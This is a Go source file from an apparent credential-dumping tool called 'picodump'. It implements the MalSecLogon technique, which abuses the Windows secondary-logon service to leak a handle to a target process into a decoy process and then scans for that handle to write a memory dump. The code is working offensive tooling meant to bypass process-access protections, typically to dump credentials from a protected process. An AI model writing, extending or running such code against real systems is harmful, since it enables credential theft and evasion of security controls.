//go:build windows

package picodump

import (
	"fmt"
	"unsafe"

	"github.com/pkg/errors"
	"github.com/sirupsen/logrus"
	"golang.org/x/sys/windows"
)

const (
	logonNetCredentialsOnly uint32 = 2

	createSuspended uint32 = 0x00000004
	createNoWindow  uint32 = 0x08000000

	startfUseStdHandles uint32 = 0x00000100
)

// leakedHandleScanLimit bounds the stage-2 scan of our own handle table.
const leakedHandleScanLimit = 0x3000

// malSecLogon leaks a handle to the target through the secondary-logon
// service. When the service starts a program under alternate credentials it
// duplicates the caller's standard handles into the new process, so we park
// the target handle in all three std slots and let the service carry it
// across. Local variant: the decoy is this same binary running as stage 2,
// which finds the handle and writes the dump itself. Remote variant: the
// decoy is a bystander; the handle is recovered out of its table with the
// duplication strategy and the decoy is killed afterwards.
func malSecLogon(pid uint32, opts *Options, remote bool, log *logrus.Entry) ([]uint32, error) {
	target, err := openProcess(pid, targetDefaultAccess)
	if err != nil {
		return nil, errors.Wrapf(ErrHandleDenied, "open target for seclogon leak: %v", err)
	}
	defer ntClose(target)

	cmdline := fmt.Sprintf(`"%s"`, opts.DecoyBinary)
	creationFlags := createNoWindow
	if remote {
		// A suspended bystander never gets to run before it is killed.
		creationFlags |= createSuspended
	} else {
		cmdline = fmt.Sprintf(`"%s" --stage2 -w %s`, opts.DecoyBinary, opts.Path)
		if opts.ValidSignature {
			cmdline += " -v"
		}
		if opts.Fork {
			cmdline += " -f"
		}
	}

	username, err := windows.UTF16PtrFromString("picodump")
	if err != nil {
		return nil, err
	}
	domain, err := windows.UTF16PtrFromString(".")
	if err != nil {
		return nil, err
	}
	password, err := windows.UTF16PtrFromString("arbitrary")
	if err != nil {
		return nil, err
	}
	cmd, err := windows.UTF16PtrFromString(cmdline)
	if err != nil {
		return nil, err
	}

	si := windows.StartupInfo{
		Flags:     startfUseStdHandles,
		StdInput:  target,
		StdOutput: target,
		StdErr:    target,
	}
	si.Cb = uint32(unsafe.Sizeof(si))
	var pi windows.ProcessInformation

	// The credentials are never validated with LOGON_NETCREDENTIALS_ONLY;
	// the service only needs to be asked.
	if err := createProcessWithLogon(username, domain, password, logonNetCredentialsOnly, nil, cmd, creationFlags, 0, nil, &si, &pi); err != nil {
		return nil, errors.Wrapf(ErrHandleDenied, "seclogon spawn of %s: %v", opts.DecoyBinary, err)
	}
	ntClose(pi.Thread)
	ntClose(pi.Process)

	log.WithFields(logrus.Fields{
		"decoy": opts.DecoyBinary,
		"pid":   pi.ProcessId,
	}).Debug("seclogon decoy spawned")

	return []uint32{pi.ProcessId}, nil
}

// findLeakedHandle scans our own handle table for the process handle to pid
// that the secondary-logon service copied across. Stage 2 has no other
// rendezvous with stage 1.
func findLeakedHandle(pid uint32) (windows.Handle, error) {
	for value := uintptr(0x4); value < leakedHandleScanLimit; value += 4 {
		h := windows.Handle(value)
		owner, err := handlePID(h)
		if err != nil || owner != pid {
			continue
		}
		return h, nil
	}
	return 0, errors.Wrapf(ErrHandleDenied, "no leaked handle to %d in our table", pid)
}
